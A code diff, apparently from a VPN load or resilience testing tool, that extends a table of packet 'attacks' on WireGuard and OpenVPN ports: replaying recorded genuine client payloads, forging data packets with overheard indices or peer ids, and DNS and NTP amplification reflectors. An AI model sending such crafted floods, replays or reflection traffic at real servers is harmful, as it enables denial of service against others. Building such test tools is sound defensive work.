@@ -10,7 +10,10 @@ export interface Target {
   random: Random;
   /** Base64; only `wireguard_initiation_valid_mac1` needs it. */
   serverPublicKey?: string;
-  /** Initiations of genuine clients, base64: `wireguard_initiation_valid_mac1` replays them instead of making up its own. */
+  /**
+   * UDP payloads that genuine clients sent, base64. `wireguard_initiation_valid_mac1` (initiations) and `replayed` send them as they
+   * are; `wireguard_data` and `openvpn_data` make up what comes behind the index or peer id of one.
+   */
   recorded?: string[];
 }
 
@@ -35,10 +38,13 @@ export const attacks = {
 
   wireguard_data: {
     port: WIREGUARD,
-    build: ({ random, port }) => {
+    build: ({ random, port, recorded }) => {
       const message = random.bytes(random.pick([32, 64, 96, 128, 176, 512, 1104, 1452]));
       message.set([4, 0, 0, 0]);
-      return udp(fromAnywhere(random, port), message, [[4, 12]]);
+      const known = overheard(random, recorded);
+      if (!known) return udp(fromAnywhere(random, port), message, [[4, 12]]);
+      message.set(known.subarray(0, 8));
+      return udp(fromAnywhere(random, port), message, [[8, 16]]);
     },
   },
   wireguard_initiation: {
@@ -48,8 +54,9 @@ export const attacks = {
   wireguard_initiation_valid_mac1: {
     port: WIREGUARD,
     // The mac covers everything before it, so only the source changes from one repetition to the next.
-    build: ({ random, port, serverPublicKey, recorded: [first, ...others] = [] }) => {
-      if (first) return udp(fromAnywhere(random, port), Buffer.from(random.pick([first, ...others]), "base64"));
+    build: ({ random, port, serverPublicKey, recorded }) => {
+      const known = overheard(random, recorded);
+      if (known) return udp(fromAnywhere(random, port), known);
       const message = initiation(random);
       message.set(blake2s(message.subarray(0, 116), { key: mac1Key(serverPublicKey), dkLen: 16 }), 116);
       return udp(fromAnywhere(random, port), message);
@@ -72,13 +79,20 @@ export const attacks = {
   openvpn_data: {
     port: OPENVPN,
     // P_DATA_V2 with a guessed peer id: they are small integers.
-    build: ({ random, port }) => {
+    build: ({ random, port, recorded }) => {
       const message = random.bytes(random.between(84, 1400));
-      message.set([0x48, 0, 0, random.below(64)]);
+      message.set(overheard(random, recorded)?.subarray(0, 4) ?? [0x48, 0, 0, random.below(64)]);
       return udp(fromAnywhere(random, port), message, [[4, 12]]);
     },
   },
   ike_sa_init: { port: IKE, build: ikeSaInit },
+  replayed: {
+    port: WIREGUARD,
+    build: ({ random, port, recorded }) => {
+      const known = overheard(random, recorded) ?? Uint8Array.of(4, 0, 0, 0, ...random.bytes(108));
+      return udp(fromAnywhere(random, port), known);
+    },
+  },
 
   dns_amplification: reflected(53, answers.dns, [[0, 2]]),
   ntp_amplification: reflected(123, answers.ntp, [[24, 4]]),
@@ -167,6 +181,10 @@ export const attacks = {
 
 export type AttackName = keyof typeof attacks;
 export const ATTACK_NAMES = Object.keys(attacks) as [AttackName, ...AttackName[]];
+
+function overheard(random: Random, [first, ...others]: string[] = []): Uint8Array | undefined {
+  return first ? Buffer.from(random.pick([first, ...others]), "base64") : undefined;
+}
 
 const fromAnywhere = (random: Random, port: number) => ({ from: random.between(1024, 65_535), to: port, vary: true });
 
